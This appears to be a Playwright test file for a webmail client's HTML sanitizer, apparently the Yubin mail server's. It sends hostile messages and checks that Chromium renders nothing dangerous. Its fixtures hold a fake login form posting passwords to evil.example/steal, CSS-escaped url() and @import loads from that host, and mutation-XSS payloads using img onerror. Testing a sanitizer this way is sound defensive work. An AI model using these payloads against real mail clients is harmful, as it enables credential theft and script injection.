// Hostile HTML mail opened in the webmail, in a real headless Chromium against a real Yubin on
// 127.0.0.1 (issue 18, finding 7): the style-close trick brings no <link rel=preconnect> and no
// fake login form into the reading frame, CSS escapes load no background, and a malformed cid:
// URL neither throws nor leaves the next message blank. The sanitizer's unit tests
// (web/src/mail/sanitize.test.ts) cover the payloads one by one; this checks what the browser
// finally shows. Skipped, with the reason, only when /usr/bin/chromium is not installed.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { build } from "esbuild";
import { createTransport } from "nodemailer";
import type { Browser, Page } from "playwright-core";
import { browserSkip, launchBrowser } from "../testing/browser.js";
import { startTestServer, type TestServer, testPassword } from "../testing/harness.js";
import { DEFAULT_DIST_DIR } from "./handler.js";

describe("hostile HTML mail in the webmail", { skip: browserSkip }, () => {
  let ts: TestServer;
  let browser: Browser;
  let page: Page;
  const requested: string[] = [];
  const pageErrors: string[] = [];

  before(async () => {
    if (!existsSync(join(DEFAULT_DIST_DIR, "index.html"))) {
      const r = spawnSync(process.execPath, ["node_modules/vite/bin/vite.js", "build", "web"], {
        stdio: "inherit",
      });
      assert.equal(r.status, 0, "vite build web failed");
    }
    ts = await startTestServer({ config: { outbound: { enabled: false } } });
    browser = await launchBrowser();
    const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: "en-US" });
    context.on("request", (r) => requested.push(r.url()));
    page = await context.newPage();
    page.setDefaultTimeout(8000);
    page.on("pageerror", (e) => pageErrors.push(String(e)));

    const smtp = createTransport({ host: "127.0.0.1", port: ts.ports.smtp, secure: false, ignoreTLS: true });
    const send = (subject: string, html: string) =>
      smtp.sendMail({ from: "Mallory <mallory@evil.example>", to: ts.users[0]!.address, subject, html });
    await send(
      "Style close",
      '<style>p{color:#123}</</stylestyle><link rel=preconnect href="https://evil.example/">' +
        '<form action="https://evil.example/steal"><p>Your session expired. Password:</p>' +
        "<input type=password name=pw><button>Log in</button></form></style><p class=real>Hello</p>",
    );
    await send(
      "CSS escapes",
      "<style>p.a{background:\\75 rl(https://evil.example/a.png)}@\\69mport 'https://evil.example/b.css';</style>" +
        '<p class="a">A</p><p class="b" style="background-image:u\\72l(https://evil.example/c.png)">B</p>',
    );
    await send("Bad cid", '<p>Before</p><img src="cid:%E0%A4%A" alt="broken"><p>After</p>');
    await send("Plain next", "<p>The next message shows.</p>");
    smtp.close();

    await page.goto(`https://localhost:${ts.ports.https!}/`);
    await page.getByLabel("Email address").fill(ts.users[0]!.address);
    await page.getByLabel("Password").fill(testPassword);
    await page.getByRole("button", { name: "Log in" }).click();
  });

  after(async () => {
    await browser?.close();
    await ts?.stop();
  });

  const openMessage = async (subject: string) => {
    await page.locator(".message-list .row", { hasText: subject }).click();
    await page.locator(".reader h1", { hasText: subject }).waitFor();
    return page.frameLocator("iframe.html-body");
  };

  test("the style-close trick brings no link, no form, no control into the frame", async () => {
    const frame = await openMessage("Style close");
    await frame.locator("p.real", { hasText: "Hello" }).waitFor();
    assert.equal(await frame.locator("link, form, input, button").count(), 0);
    assert.equal(await frame.locator("body *").count(), 1, "only <p class=real> in the body");
    assert.equal(
      await frame.locator("p.real").evaluate((p) => p.ownerDocument.defaultView?.getComputedStyle(p).color),
      "rgb(17, 34, 51)",
    );
  });

  test("CSS escapes give no background image and no imported sheet", async () => {
    const frame = await openMessage("CSS escapes");
    await frame.locator("p.b", { hasText: "B" }).waitFor();
    for (const sel of ["p.a", "p.b"]) {
      assert.equal(
        await frame
          .locator(sel)
          .evaluate((p) => p.ownerDocument.defaultView?.getComputedStyle(p).backgroundImage),
        "none",
        sel,
      );
    }
    assert.equal(
      await frame.locator("p.a").evaluate((p) => p.ownerDocument.styleSheets.length),
      2,
      "the frame's own sheet and the message's, nothing imported",
    );
  });

  test("a malformed cid: URL drops that image; the next message still shows", async () => {
    const frame = await openMessage("Bad cid");
    await frame.locator("p", { hasText: "After" }).waitFor();
    assert.equal(await frame.locator("img").getAttribute("src"), null);
    const next = await openMessage("Plain next");
    await next.locator("p", { hasText: "The next message shows." }).waitFor();
    assert.deepEqual(pageErrors, []);
  });

  test("the sanitizer takes linear time in Chromium, its real parser included, and is idempotent there", async () => {
    // The unit tests time the sanitizer's own work on jsdom; here the whole call, the browser's
    // parse included, on a blank page of the same browser (no CSP there to refuse the script).
    // Deep nesting: Chromium's DOMParser alone is quadratic on it (2,000 nested elements parse in
    // ~15-30 ms, 16,000 in ~800-900 ms, whatever the tag); past 10,000 open tags the sanitizer
    // shows the markup as text without parsing it (web/src/mail/open-tags.ts).
    const bundle = await build({
      entryPoints: ["web/src/mail/sanitize.ts"],
      bundle: true,
      format: "iife",
      globalName: "yubinSanitize",
      write: false,
    });
    const blank = await page.context().newPage();
    await blank.setContent("<!doctype html><title>timing</title>");
    await blank.addScriptTag({ content: bundle.outputFiles[0]!.text });
    await blank.addScriptTag({
      content: "var sanitizeOptions = { allowRemote: false, cidUrl: () => null };",
    });
    const cases: [string, number, (n: number) => string][] = [
      ["many <", 20_000, (n) => "<".repeat(n)],
      ["deep nesting", 2_000, (n) => "<div>x".repeat(n)],
      ["deep unknown nesting", 2_000, (n) => "<x-a>x".repeat(n)],
      ["many attributes", 1_000, (n) => `<p ${Array.from({ length: n }, (_, i) => `a${i}=x`).join(" ")}>x`],
      ["many styles", 2_000, (n) => "<style>p{background:\\75 rl(x)}</style>".repeat(n)],
      ["style-close tricks", 5_000, (n) => `<style>${"</</stylestyle>".repeat(n)}</style>`],
    ];
    // A single sample on a busy machine can land a GC pause or a preemption on the large run (CI
    // once measured 0.6 ms and 27 ms for many attributes, which take ~1 and ~9 ms when quiet): an
    // over-the-bar ratio is measured again, up to three times, and fails only if it stays over.
    // Quadratic code (64x from n to 8n) is over the bar on every attempt.
    for (const [name, n, make] of cases) {
      const inputs = [make(n), make(n * 8)];
      let verdict = "";
      for (let attempt = 0; attempt < 3; attempt++) {
        // No function is written inside the page function: tsx would name it with a helper that
        // does not exist in the page.
        const [small, large] = await blank.evaluate((inputs) => {
          const g = globalThis as unknown as {
            yubinSanitize: { sanitizeHtml(h: string, o: object): unknown };
            sanitizeOptions: object;
            performance: { now(): number };
          };
          const best = [Number.POSITIVE_INFINITY, Number.POSITIVE_INFINITY];
          for (let k = 0; k < inputs.length; k++) {
            for (let i = 0; i < 4; i++) {
              const t0 = g.performance.now();
              g.yubinSanitize.sanitizeHtml(inputs[k]!, g.sanitizeOptions);
              // The first run is the warm-up.
              if (i > 0) best[k] = Math.min(best[k]!, g.performance.now() - t0);
            }
          }
          return best;
        }, inputs);
        if (small === undefined || large === undefined) throw new Error("no timing");
        const ratio = large / Math.max(small, 1);
        verdict =
          ratio > 24
            ? `${name}: n ${small.toFixed(1)} ms, 8n ${large.toFixed(1)} ms, ratio ${ratio.toFixed(1)}`
            : large >= 5000
              ? `${name}: 8n took ${large.toFixed(0)} ms`
              : "";
        if (verdict === "") break;
      }
      assert.equal(verdict, "", verdict);
    }
    // Idempotent on Chromium's parser too (the unit tests use jsdom's).
    const corpus = [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      "<ul><li>a<fieldset><li>b</fieldset></ul><p><marquee><div>x</div></marquee><a>1<marquee><a>2",
      "<pre><script></script>\nz</pre><table><tr><td>a<table>b<tr><td>c</table><p>d<form>e</table>f",
      `${"<div>".repeat(600)}deep`,
    ];
    const unstable = await blank.evaluate((inputs) => {
      const g = globalThis as unknown as {
        yubinSanitize: { sanitizeHtml(h: string, o: object): { html: string } };
        sanitizeOptions: object;
      };
      const bad: string[] = [];
      for (const x of inputs) {
        const once = g.yubinSanitize.sanitizeHtml(x, g.sanitizeOptions).html;
        if (g.yubinSanitize.sanitizeHtml(once, g.sanitizeOptions).html !== once) bad.push(x.slice(0, 80));
      }
      return bad;
    }, corpus);
    assert.deepEqual(unstable, []);
    await blank.close();
  });

  test("nothing was requested from the sender's host", () => {
    assert.deepEqual(
      requested.filter((u) => u.includes("evil.example")),
      [],
    );
  });
});
